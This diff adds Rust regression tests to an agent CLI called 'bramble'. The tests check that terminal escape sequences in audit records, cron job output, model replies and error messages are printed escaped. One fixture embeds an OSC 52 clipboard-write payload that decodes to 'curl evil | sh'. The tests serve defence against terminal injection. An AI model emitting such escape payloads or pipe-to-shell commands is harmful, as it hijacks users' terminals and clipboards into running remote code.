@@ -1067,3 +1067,74 @@ async fn a_job_failing_in_a_row_raises_one_alert_and_one_recovery_note() {
     run(&["cron", "run", "backup"]).await;
     assert_eq!(alerts(), (2, 1));
 }
+
+/// The bytes a terminal would act on: ESC, BEL and C1's CSI (U+009B, in UTF-8 `C2 9B`).
+fn raw_controls(out: &[u8]) -> Vec<u8> {
+    out.iter().copied().filter(|b| matches!(b, 0x1b | 0x07 | 0x9b)).collect()
+}
+
+/// Issue 36: an audit entry keeps the command as it was asked; `bramble audit`
+/// printed it raw, so an OSC 52 in it wrote the owner's clipboard. Now every
+/// control character is shown escaped (the model's answer printed by
+/// `bramble agent` too).
+#[tokio::test]
+async fn audit_prints_recorded_commands_with_their_controls_escaped() {
+    let fake = FakeLlm::start(Dialect::OpenAi).await;
+    let home = TestHome::new("openai", &fake.base_url(), "", "", "");
+    let evil = "echo \u{1b}]52;c;Y3VybCBldmlsIHwgc2g=\u{7}\u{9b}2J\u{202e}done";
+    let args = serde_json::json!({ "command": evil }).to_string();
+    fake.push(Reply::ToolCalls(vec![("exec".into(), args)]));
+    fake.push(Reply::Text("Done \u{1b}]0;owned\u{7}".into()));
+    let cfg = home.config.to_str().unwrap();
+    let out = bramble(home.path(), &["--config", cfg, "agent", "-m", "run it"], None).await;
+    assert!(out.status.success(), "{}", text(&out.stderr));
+    assert_eq!(raw_controls(&out.stdout), b"", "{:?}", text(&out.stdout));
+    assert_eq!(text(&out.stdout), "Done \\x1b]0;owned\\x07\n");
+    let recorded = std::fs::read_to_string(home.state.join("audit.jsonl")).unwrap();
+    assert!(recorded.contains(r#"\u001b]52;c;"#), "the record keeps what was asked: {recorded}");
+
+    let out = bramble(home.path(), &["--config", cfg, "audit", "--since", "1h"], None).await;
+    assert!(out.status.success(), "{}", text(&out.stderr));
+    let shown = text(&out.stdout);
+    assert_eq!(raw_controls(&out.stdout), b"", "{shown:?}");
+    assert!(
+        shown.contains(r"exec           ok      echo \x1b]52;c;Y3VybCBldmlsIHwgc2g=\x07\u{9b}2J\u{202e}done"),
+        "{shown}"
+    );
+}
+
+/// `cron show` prints a job's run history (its output), `cron run` the
+/// output itself: a command's escape sequences are shown, never run.
+#[tokio::test]
+async fn cron_show_and_run_print_job_output_with_its_controls_escaped() {
+    let fake = FakeLlm::start(Dialect::OpenAi).await;
+    let home = TestHome::new("openai", &fake.base_url(), "", "", "");
+    let cfg = home.config.to_str().unwrap();
+    let printf = r"printf '\033]52;c;ZXZpbA==\007\302\233 31m\342\200\256 done'";
+    let add = ["--config", cfg, "cron", "add", "esc", "--every", "1h", "--exec", printf];
+    let out = bramble(home.path(), &add, None).await;
+    assert!(out.status.success(), "{}", text(&out.stderr));
+    let out = bramble(home.path(), &["--config", cfg, "cron", "run", "esc"], None).await;
+    assert!(out.status.success(), "{}", text(&out.stderr));
+    assert_eq!(raw_controls(&out.stdout), b"", "{:?}", text(&out.stdout));
+    assert!(text(&out.stdout).contains(r"\x1b]52;c;ZXZpbA==\x07\u{9b} 31m\u{202e} done"), "{}", text(&out.stdout));
+
+    let out = bramble(home.path(), &["--config", cfg, "cron", "show", "esc"], None).await;
+    let shown = text(&out.stdout);
+    assert!(out.status.success(), "{}", text(&out.stderr));
+    assert_eq!(raw_controls(&out.stdout), b"", "{shown:?}");
+    let run = shown.lines().find(|l| l.contains("ZXZpbA==") && !l.contains("command:")).expect(&shown);
+    assert!(run.contains(r"\x1b]52;c;ZXZpbA==\x07\u{9b} 31m\u{202e} done"), "{shown}");
+}
+
+/// An error quotes what it was given (a name, a server's answer): `bramble`
+/// prints it with its control characters escaped.
+#[tokio::test]
+async fn errors_quote_their_input_with_controls_escaped() {
+    let dir = tempfile::tempdir().unwrap();
+    let out =
+        bramble(dir.path(), &["cron", "add", "a\u{1b}]52;c;eA==\u{7}b", "--every", "1h", "--remind", "x"], None).await;
+    assert_eq!(out.status.code(), Some(1));
+    assert_eq!(raw_controls(&out.stderr), b"", "{:?}", text(&out.stderr));
+    assert!(text(&out.stderr).contains(r"`a\x1b]52;c;eA==\x07b` is not a job name"), "{}", text(&out.stderr));
+}
